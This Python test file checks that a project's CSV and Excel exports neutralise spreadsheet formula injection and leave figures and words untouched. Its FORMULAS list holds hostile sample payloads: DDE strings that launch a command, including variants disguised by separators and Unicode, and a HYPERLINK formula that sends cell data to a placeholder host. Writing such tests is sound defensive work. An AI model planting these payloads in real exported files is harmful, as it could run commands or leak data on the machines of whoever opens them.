"""Cells of exported files: a text never becomes a formula, whichever separator a file is opened with; figures stay."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

from pages.ui import download
from segmentation.export import harmless, write_table
from segmentation.export_excel import REGISTER_COLUMNS

FORMULAS = [
    "=1+1", "=cmd|'/C calc'!A0", "+1+cmd|'/C calc'!A0", "-2+3+cmd|'/C calc'!A0", "@SUM(1+1)", "\t=1", "\r=1", "\n=1",
    " =1", "\xa0=1", "\u3000=1", "\u200b=1", "\ufeff=1", "\u202e=1", "\x00=1", "\x01=1", '"=1"', "'=1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "A;1;=cmd|'/C calc'!A0", "a,=1", "a\t=1", 'a;"=1', "a\n=1",
    "a; +1+cmd|'x'!A0",
    '=HYPERLINK("http://evil.invalid?"&A1,"x")', "DDE(=1),=1",
]  # fmt: skip
FIGURES = ["-5,00", "1.234,56-", "-1234.56", "0", "-", "31.12.2024", "12,5 %"]
WORDS = [
    "Schrauben, -muttern",
    "Müller & Söhne",
    "a-b",
    "x = 1",
    "info@firma.de",
    "rund, +/- 5 %",
    "A;1;31.12.2024;-5,00",
]
# What spreadsheets skip before they look whether a cell is a formula; an apostrophe makes it text.
SKIPPED = re.compile(r"[\s\x00-\x20\u200b-\u200f\u202a-\u202e\u2060-\u2069\ufeff\"]*")
RUNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")


def runs(cell: str) -> bool:
    """Whether a spreadsheet might calculate the cell: more is said to run than does."""
    rest = SKIPPED.sub("", cell, count=1)
    return rest.startswith(RUNS) and re.fullmatch(r"-?[\d.,]*-?", rest) is None


@pytest.mark.parametrize("text", FORMULAS)
def test_no_formula_is_left_in_a_file_however_it_is_opened(text: str) -> None:
    frame = pd.DataFrame({"a": [text]})
    for language in ("de", "en"):
        written = download.csv_bytes(frame, {"a": text}, language).decode("utf-8-sig")  # type: ignore[arg-type]
        for separator in ";,\t":
            for row in csv.reader(io.StringIO(written, newline=""), delimiter=separator):
                assert not [cell for cell in row if runs(cell)], written


@pytest.mark.parametrize("text", [*FIGURES, *WORDS])
def test_figures_and_words_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text


@pytest.mark.parametrize("value", [-5, -1.5, 0, None, True])
def test_what_is_no_text_stays(value: object) -> None:
    assert harmless(value) is value


@given(st.text())
@example("\n\n=1")
def test_any_text_can_be_read_again(text: str) -> None:
    """But for apostrophes that were added, the NUL that no file of text holds, and the kind of line ends."""
    found = str(harmless(text))
    assert not runs(found)
    assert found.replace("'", "") == re.sub("\r\n?", "\n", text.replace("\0", "")).replace("'", "")


@pytest.mark.parametrize("text", FORMULAS)
def test_a_workbook_holds_texts_and_no_formula(tmp_path: Path, text: str) -> None:
    table = pd.DataFrame({column.name: [text] for column in REGISTER_COLUMNS})
    write_table(table, tmp_path / "f.xlsx")
    with zipfile.ZipFile(tmp_path / "f.xlsx") as parts:
        sheets = b"".join(parts.read(name) for name in parts.namelist() if "worksheets/" in name)
        assert b"<f>" not in sheets
        assert b"<hyperlink" not in sheets.lower()
        assert not [name for name in parts.namelist() if "externalLink" in name]
    cells = [cell for row in openpyxl.load_workbook(tmp_path / "f.xlsx").worksheets[0].iter_rows() for cell in row]
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    assert not [cell for cell in cells if cell.data_type == "f"]


@pytest.mark.parametrize("text", FORMULAS)
def test_the_command_lines_csv_holds_no_formula(tmp_path: Path, text: str) -> None:
    write_table(pd.DataFrame({"table": [text], text: [-1.5]}), tmp_path / "f.csv")
    head, row = csv.reader((tmp_path / "f.csv").open(encoding="utf-8", newline=""))
    assert not [cell for cell in (*head, row[0]) if runs(cell)]
    assert row[1] == "-1.5"


def test_a_line_of_nothing_but_separators_is_looked_through_once() -> None:
    """As in a ragged row of a wide sheet; looked at from each of them anew it would take hours."""
    assert harmless("K1" + "\t" * 400_000 + "=1") == "K1" + "\t" * 400_000 + "'=1"
